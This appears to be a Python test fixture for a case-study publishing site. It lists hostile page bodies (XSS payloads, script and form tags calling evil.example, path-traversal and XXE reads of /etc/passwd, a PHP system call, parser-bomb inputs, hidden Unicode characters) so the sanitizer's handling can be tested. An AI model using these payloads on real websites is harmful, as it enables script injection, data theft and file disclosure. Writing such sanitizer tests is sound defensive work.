"""Hostile texts below the header of a case study."""

from __future__ import annotations

from tests import kit
from tests.hostile.kinds import HARMLESS, Hostile, page, study

# Raw HTML, in a paragraph of its own.
HTML = {
    "script": "<script>alert(1)</script>",
    "upper-case": "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "open-script": "<script src=//evil.example/x.js",
    "image": "<img src=x onerror=alert(1)>",
    "svg": "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "svg-use": "<svg><use href='data:image/svg+xml,x#x'/></svg>",
    "math": "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "style": "<style>@import '//evil.example/x.css';</style>",
    "frame": "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "object": "<object data=//evil.example/x></object>",
    "embed": "<embed src=//evil.example/x>",
    "form": "<form action=//evil.example><input name=body></form>",
    "base": "<base href=//evil.example/>",
    "meta": "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "link": "<link rel=stylesheet href=//evil.example/x.css>",
    "anchor": "<a href=javascript:alert(1)>x</a>",
    "overlay": '<div style="position:fixed;inset:0">Sign in</div>',
    "close": "</article></main></body></html>",
    "clobber": '<p id="__config">x</p>',
    "details": "<details open ontoggle=alert(1)><summary>x</summary></details>",
    "unknown": "<x-y onpointerover=alert(1)>z</x-y>",
    "template": "<template><script>alert(1)</script></template>",
    "doctype": "<!DOCTYPE html [<!ENTITY x SYSTEM 'file:///etc/os-release'>]>",
    "instruction": "<?php system('id') ?>",
    "cdata": "<![CDATA[<script>alert(1)</script>]]>",
    "comment-tail": "<!-- x --><script>alert(1)</script>",
    "comment-short": "<!--><script>alert(1)</script> -->",
    "comment-bang": "<!-- x --!><script>alert(1)</script>",
    "in-note-unused": "[^1]: <script>alert(1)</script>",
    "comment-open": "<!-- the end of this text is never published",
    "indented": "    <script>alert(1)</script>",
    "inline": "Words <b onclick=alert(1)>and</b> words.",
    "in-item": "- one\n- <img src=x onerror=alert(1)>",
    "in-quote": "> <img src=x onerror=alert(1)>",
    "in-table": "| a |\n| --- |\n| <img src=x onerror=alert(1)> |",
    "in-heading": "## A <img src=x onerror=alert(1)>",
    "in-link": "[<img src=x onerror=alert(1)>](https://a.example)",
    "in-note": "Note[^1].\n\n[^1]: <img src=x onerror=alert(1)>",
    "in-inline-note": "Note^[<img src=x onerror=alert(1)>].",
}

# Targets of links that are not published.
LINKS: dict[str, tuple[str, str]] = {
    "script": ("javascript:alert(1)", "link-scheme"),
    "mixed-case": ("JaVaScRiPt:alert(1)", "link-scheme"),
    "entity": ("java&#115;cript:alert(1)", "link-scheme"),
    "long-entity": ("&#x6A;avascript&colon;alert(1)", "link-scheme"),
    "tab": ("java&Tab;script:alert(1)", "link-scheme"),
    "newline": ("java&NewLine;script:alert(1)", "link-scheme"),
    "leading-control": ("&#1;javascript:alert(1)", "link-unknown"),
    "leading-space": ("&#32;javascript:alert(1)", "link-scheme"),
    "escaped": ("javascript\\:alert(1)", "link-scheme"),
    "percent": ("javascript%3Aalert(1)", "link-unknown"),
    "data": ("data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==", "link-scheme"),
    "vbscript": ("vbscript:msgbox(1)", "link-scheme"),
    "file": ("file:///etc/os-release", "link-scheme"),
    "blob": ("blob:https://a.example/x", "link-scheme"),
    "view-source": ("view-source:https://a.example", "link-scheme"),
    "telephone": ("tel:+44123", "link-scheme"),
    "no-scheme": ("//evil.example/x", "link-scheme"),
    "no-host": ("https:evil.example", "link-unknown"),
    "backslash": ("\\\\\\\\evil.example/x", "link-unknown"),
    "slash-backslash": ("/\\\\evil.example/x", "link-unknown"),
    "user": ("https://gov.uk@evil.example/", "link-unknown"),
    "absolute": ("/etc/os-release", "link-unknown"),
    "up": ("../../../../etc/os-release", "link-unknown"),
    "up-encoded": ("..%2f..%2f..%2fetc/os-release", "link-unknown"),
    "register": ("_registers/alliances.yml", "link-unknown"),
    "settings": ("../mkdocs.yml", "link-unknown"),
    "case-up": ("case:../../index", "unknown-case"),
    "case-anchor": ("case:seminar#__config", "link-anchor"),
    "message-digits": ("message:" + "9" * 5000, "unknown-message"),
    "message-arabic": ("message:٣", "unknown-message"),
    "message-attribute": ("message:1\\\"onclick=alert(1)", "unknown-message"),
    "alliance-class": ("alliance:__class__", "unknown-alliance"),
    "anchor": ("#__search", "link-anchor"),
}  # fmt: skip

# Images that are not published, as they are written in the text.
IMAGES = {
    "remote": "![x](https://evil.example/x.png)",
    "no-scheme": "![x](//evil.example/x.png)",
    "backslash": "![x](/\\\\evil.example/x.png)",
    "data": "![x](data:image/svg+xml;base64,PHN2Zz4=)",
    "script": "![x](javascript:alert(1))",
    "up": "![x](../../../../etc/os-release)",
    "absolute": "![x](/etc/os-release)",
    "file": "![x](file:///etc/os-release)",
    "page": "![x](seminar.md)",
    "register": "![x](_registers/alliances.yml)",
    "reference": "![x][y]\n\n[y]: //evil.example/x.png",
    "in-link": "[![x](//evil.example/x.png)](https://a.example)",
}

TAKEN = ("__config", "main", "page-search", "shows-1", "fn-1", "Location", "__proto__")

# Texts that are accepted, and what must not come of them is asked of the whole site.
ODD = {
    "attributes-heading": '### Head {#__config onclick="alert(1)" .md-header }',
    "attributes-link": "[x](https://a.example){ onclick=alert(1) style=position:fixed }",
    "attributes-block": 'Words.\n{: onclick="alert(1)" #main }',
    "fence": "```html { onclick=alert(1) }\n<script>alert(1)</script>\n```",
    "fence-language": '```"><script>alert(1)</script>\nx\n```',
    "code": "`<script>alert(1)</script>`",
    "link-title": "[x](https://a.example 'y\" onmouseover=\"alert(1)')",
    "link-quote": '[x](https://a.example/?a="onclick=alert(1))',
    "link-upper": "[x](HTTPS://A.EXAMPLE/)",
    "link-text": "[`<script>alert(1)</script>`](message:1)",
    "mail": "[x](mailto:editor?subject=%3Cscript%3E&body=javascript:alert(1))",
    "no-link": "[x]( javascript:alert(1) y)",
    "unused-reference": "[x]: javascript:alert(1)",
    "reference-twice": "[x]\n\n[x]: https://a.example\n[X]: javascript:alert(1)",
    "bare": "javascript:alert(1) https://evil.example/x.js",
    "clobber": "\n\n".join(f"### {name}" for name in TAKEN),
    "headings": "### Again\n\n" * 300,
    "admonition": '!!! note "x\' onclick=alert(1)"\n    y',
    "tabs": '=== "x"\n\n    y',
    "snippet": '--8<-- "/etc/os-release"\n\n;--8<-- "/etc/passwd"',
    "jinja": "{{ config.site_dir }} {% include '/etc/passwd' %} {# x #}",
    "abbreviation": '*[met]: " onmouseover="alert(1)',
    "contents": "[TOC]",
    "emoji": ":smile: :fontawesome-solid-x:",
    "mathematics": "$\\href{javascript:alert(1)}{x}$",
    "mermaid": "```mermaid\ngraph TD; A[<img src=x onerror=alert(1)>]\n```",
    "wiki": "[[x|javascript:alert(1)]] ++x++ ==y== ~~z~~ {--w--}",
    "comment": "<!-- <script>alert(1)</script> -->\n\nWords <!-- and --> words.",
    "html-slash": "<img/src=x/onerror=alert(1)>",
    "html-newline": "<img\nsrc=x\nonerror=alert(1)\n>",
    "entities": "&lt;script&gt;alert(1)&lt;/script&gt; &#60;img src=x onerror=alert(1)&#62;",
    "escapes": "\\<script>alert(1)\\</script>",
    "less-than": "1 < 2, a <b, <3 and <![CDATA x",
    "table": "| a | b |\n| :-- | --: |\n| `<script>` | \\| onclick=alert(1) |",
    "note-loop": "A[^a].\n\n[^a]: B[^b].\n\n[^b]: C[^a].",
    "note-names": "A[^__proto__] B[^x\"y].\n\n[^__proto__]: P.\n\n[^x\"y]: Q.",
    "right-to-left": "\u200f\u05e9\u05dc\u05d5\u05dd, \u0633\u0644\u0627\u0645.",
    "joined": "Soft\u00adhyphen, \U0001f469\u200d\U0001f3eb and \u0915\u094d\u200d\u0937.",
}  # fmt: skip

DEEP = "\n".join("  " * n + "- x" for n in range(200))
WIDE = "|" + "a|" * 400

# Texts that other parsers never finish, or break on. None: whatever becomes of it is inert.
BOMBS: dict[str, tuple[str, str | None]] = {
    "cdata": ("<![" * 8500, "body-limit"),
    "cdata-lines": ("<![" * 6000, HARMLESS),
    "brackets": ("[" * 5000, HARMLESS),
    "images": ("![" * 5000, HARMLESS),
    "links": ("[a](" * 4000, HARMLESS),
    "nested-links": ("[" * 2000 + "a" + "](https://a.example)" * 800, HARMLESS),
    "underscores": ("_" * 20_000, HARMLESS),
    "stars": ("*a **b " * 2800, "section-long"),
    "star-pairs": ("*" * 9000 + "a" + "*" * 9000, HARMLESS),
    "ticks": ("".join("`" * n + " " for n in range(190)), HARMLESS),
    "angles": ("<" * 19_000, HARMLESS),
    "addresses": ("<https://a" * 1900, HARMLESS),
    "ampersands": ("&#" * 9000, HARMLESS),
    "backslashes": ("\\" * 19_999, HARMLESS),
    "quotations": (">" * 5000, "body-limit"),
    "bullets": ("- " * 5000 + "x", "body-limit"),
    "numbers": ("1. " * 4000 + "x", "body-limit"),
    "mixture": ("> - " * 3000 + "x", "body-limit"),
    "deep-list": (DEEP, "body-limit"),
    "long-line": ("word " * 5000, "body-limit"),
    "many-words": ("word\n" * 40_000, "section-long"),
    "table": (f"{WIDE}\n{WIDE.replace('a', '-')}\n{WIDE}\n" * 20, "section-long"),
    "definitions": ("\n".join(f"[a{n}]: https://a.example/{n}" for n in range(4000)), HARMLESS),
    "notes": ("^[x" * 1500, HARMLESS),
    "note-chain": ("[^0]\n\n" + "\n\n".join(f"[^{n}]: [^{n + 1}]" for n in range(500)), HARMLESS),
    "comments": ("<!--" * 4000, "body-html"),
    "underline": ("a\n" + "=" * 19_000, "heading-level"),
}  # fmt: skip

OTHERS: dict[str, tuple[str, str]] = {
    "merge": ("<<<<<<< HEAD\nours\n=======\ntheirs\n>>>>>>> theirs", "file-merge"),
    "override": ("Three \u202eslipup\u202c.", "file-hidden-character"),
    "tag-letters": ("Ignore \U000e0049\U000e0067\U000e006e this.", "file-hidden-character"),
    "escape": ("\x1b]8;;https://evil.example\x07x\x1b]8;;\x07", "file-hidden-character"),
    "nul": ("a\x00b", "file-hidden-character"),
    "in-code": ("```\nif x: # \u2066admin\n```", "file-hidden-character"),
    "title": ("# Another title", "heading-level"),
}


# Numbers of a table that is drawn.
DRAWN = {"digits": "9" * 5000, "other-digits": "\u0663", "negative": "-1", "script": "`<script>`"}


def cases() -> list[Hostile]:
    """Every hostile body."""
    made: list[Hostile] = []

    def add(family: str, name: str, text: str, code: str | None, slow: bool = False) -> None:
        body = f"{kit.BODY}\n{text}\n"
        made.append(page(family, name, study(f"{family} {name}", body), code, slow=slow))

    for name, text in HTML.items():
        add("html", name, text, "body-html")
    for name, (target, code) in LINKS.items():
        add("link", name, f"[Words]({target})", code)
    add("link", "autolink", "<javascript:alert(1)>", "link-scheme")
    add("link", "reference", "[x][y]\n\n[y]: javascript:alert(1)", "link-scheme")
    for name, text in IMAGES.items():
        add("image", name, text, "image")
    for name, text in ODD.items():
        add("odd", name, text, HARMLESS)
    for name, (text, expected) in BOMBS.items():
        add("bomb", name, text, expected, slow=True)
    for name, cell in DRAWN.items():
        body = f"{kit.BODY}\n| A | n |\n| - | - |\n| x | {cell} |\n"
        text = study(f"chart {name}", body, charts="[{table: A, title: t, unit: u}]")
        made.append(page("chart", name, text, "chart-table"))
    for name, (text, code) in OTHERS.items():
        add("text", name, text, code)
    return made
